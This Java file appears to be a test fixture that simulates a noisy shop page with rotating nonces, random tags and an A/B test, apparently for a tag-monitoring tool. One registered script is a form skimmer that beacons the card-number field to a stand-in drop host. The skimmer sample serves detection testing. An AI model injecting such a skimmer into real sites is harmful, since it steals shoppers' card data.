package org.tagwarden.playground.content;

import static org.tagwarden.playground.content.Answers.nothing;
import static org.tagwarden.playground.content.Answers.open;
import static org.tagwarden.playground.content.Answers.pixel;
import static org.tagwarden.playground.content.Answers.script;

import java.util.EnumSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import org.tagwarden.playground.content.RestlessChange.Where;
import org.tagwarden.playground.net.Exchange;
import org.tagwarden.playground.net.Internet;

/**
 * {@code https://www.restless.example/}: a page that never changes and is never twice the same, as
 * most are. Nonces, build ids, time stamps and visitor ids are new on every load, one tag fires on
 * one load of five, and an A/B test shows every other visitor another page. Until somebody asks for
 * the path of a {@link RestlessChange}.
 */
final class RestlessPages {
  private static final String SITE = "www.restless.example";
  private static final String TAG = "cdn.restless-tags.example";
  private static final String STEADY = "cdn.steady-tags.example";
  private static final String RARE = "cdn.rare-tags.example";
  private static final String SCRIPT = "text/javascript; charset=utf-8";
  private static final List<String> STRANGERS =
      List.of("two", "three", "four", "six", "seven", "eight", "nine", "ten");

  /** Chance, and the same one in every run. */
  private final Random random = new Random(20_260_302);

  /** Pages are served by several threads: read and written under its lock. */
  private final Set<RestlessChange> made = EnumSet.noneOf(RestlessChange.class);

  private RestlessPages() {}

  static void addTo(Internet internet) {
    RestlessPages pages = new RestlessPages();
    internet
        .host(SITE)
        .at("/", pages::page)
        .at("/assets/app.*", pages::app)
        .at("/assets/variant-b.js", script("document.body.className = 'b';"))
        .at("/assets/extra.js", script("window.extra = true;"))
        .at("/basket", nothing());
    for (RestlessChange change : RestlessChange.values()) {
      internet.host(SITE).at(change.path(), exchange -> pages.publish(exchange, change));
    }
    internet.host(TAG).at("/s.js", pages::tag).at("/p.gif", pages::tagPixel);
    internet.host(STEADY).at("/s.js", script("window.steady = true;"));
    internet
        .host(RARE)
        .at("/r.js", script("new Image().src='https://" + RARE + "/p.gif?id='+Math.random();"))
        .at("/p.gif", pixel());
    for (String stranger : STRANGERS) {
      internet.host("drop.stranger-" + stranger + ".example").at("/c", nothing()).at("/*", pixel());
      internet.host("tags.stranger-" + stranger + ".example").at("/t.js", script("soup = 1;"));
    }
    internet
        .host("frames.stranger-six.example")
        .at("/f.html", Answers.page("<!doctype html><p>Frame</p>"));
    internet
        .host("tags.stranger-nine.example")
        .at(
            "/skim.js",
            script(
                "navigator.sendBeacon('https://drop.stranger-nine.example/c',"
                    + "'n='+document.getElementById('card').value);"));
  }

  private void publish(Exchange exchange, RestlessChange change) {
    synchronized (made) {
      made.add(change);
    }
    Answers.page("<!doctype html><title>Published</title>").to(exchange);
  }

  /** The texts of the changes that were made there, in their order. */
  private List<String> made(Where where) {
    synchronized (made) {
      return made.stream().filter(c -> c.where() == where).map(RestlessChange::text).toList();
    }
  }

  private boolean isMade(RestlessChange change) {
    synchronized (made) {
      return made.contains(change);
    }
  }

  private void page(Exchange exchange) {
    String nonce;
    String build;
    boolean rare;
    boolean b;
    int items;
    synchronized (random) { // pages are served by several threads
      nonce = "aB3" + Long.toString(random.nextLong() >>> 1, 36) + "Zz9";
      build = String.format("%08x", random.nextInt() | 0x1000_0000);
      rare = random.nextInt(5) == 0;
      b = random.nextBoolean();
      items = 1 + random.nextInt(4);
    }
    headers().forEach((name, value) -> exchange.header(name, value.replace("NONCE", nonce)));
    exchange.header(
        "Set-Cookie", "visitor=" + nonce + "; Path=/; Secure; HttpOnly; SameSite=Strict");
    for (String cookie : made(Where.COOKIE)) {
      exchange.header("Set-Cookie", cookie.replace("NONCE", nonce));
    }
    exchange.send(200, "text/html; charset=utf-8", html(nonce, build, rare, b, items));
  }

  private Map<String, String> headers() {
    Map<String, String> headers = new LinkedHashMap<>();
    headers.put("Strict-Transport-Security", "max-age=31536000");
    headers.put("X-Content-Type-Options", "nosniff");
    headers.put("X-Frame-Options", "DENY");
    headers.put("Referrer-Policy", "strict-origin");
    headers.put("Permissions-Policy", "camera=()");
    headers.put(
        "Content-Security-Policy",
        "default-src 'self' https:; script-src 'nonce-NONCE' 'strict-dynamic'; frame-ancestors 'none'");
    for (String header : made(Where.HEADER)) {
      int colon = header.indexOf(':');
      headers.put(header.substring(0, colon), header.substring(colon + 1).strip());
    }
    headers.values().removeIf(String::isEmpty);
    return headers;
  }

  private String html(String nonce, String build, boolean rare, boolean b, int items) {
    String script = "<script nonce=\"" + nonce + "\"";
    StringBuilder list = new StringBuilder();
    for (int i = 0; i < items; i++)
      list.append("{id:").append(i).append(",name:'Shoe ").append(i).append("'},");
    String head =
        """
        <!doctype html>
        <html lang="en"><head><title>Restless</title>
        %1$s>window.dataLayer=window.dataLayer||[];dataLayer.push({nonce:'%2$s',made:%3$d,items:[%4$s]});</script>
        %1$s src="/assets/app.%5$s.js"></script>
        %1$s src="https://%6$s/s.js?cb=%3$d"></script>
        """
            .formatted(script, nonce, System.nanoTime(), list, build, TAG);
    StringBuilder page = new StringBuilder(head);
    if (!isMade(RestlessChange.TAG_GONE)) page.append(tag(script, STEADY, "/s.js"));
    if (rare) page.append(tag(script, RARE, "/r.js"));
    page.append(script)
        .append(
            b ? " src=\"/assets/variant-b.js\" defer></script>" : ">window.variant='a';</script>")
        .append("</head><body><h1>Shoes</h1><form>")
        .append("<input id=\"card\" name=\"card\" autocomplete=\"cc-number\">")
        .append("<input id=\"secret\" name=\"secret\" type=\"password\"></form>");
    for (String element : made(Where.BODY)) page.append(element.replace("NONCE", nonce));
    return page.append("</body></html>").toString();
  }

  private static String tag(String script, String host, String path) {
    return script + " src=\"https://" + host + path + "\"></script>\n";
  }

  private void app(Exchange exchange) {
    String build = exchange.request().path();
    open(exchange)
        .send(
            200,
            SCRIPT,
            "/* built as "
                + build
                + " */ var buildId='"
                + build
                + "'; var made="
                + System.currentTimeMillis()
                + ";"
                + "localStorage.setItem('basket', String(Math.random()));"
                + "document.cookie='theme=light; Path=/; Secure; SameSite=Lax';"
                + "fetch('/basket?cb='+Date.now());"
                + String.join("", made(Where.APP)));
  }

  private void tag(Exchange exchange) {
    open(exchange)
        .send(
            200,
            SCRIPT,
            "/*! "
                + System.currentTimeMillis()
                + " */new Image().src='https://"
                + TAG
                + "/p.gif?id='+Math.random();"
                + String.join("", made(Where.TAG)));
  }

  private void tagPixel(Exchange exchange) {
    for (String cookie : made(Where.PIXEL)) exchange.header("Set-Cookie", cookie);
    pixel().to(exchange);
  }
}
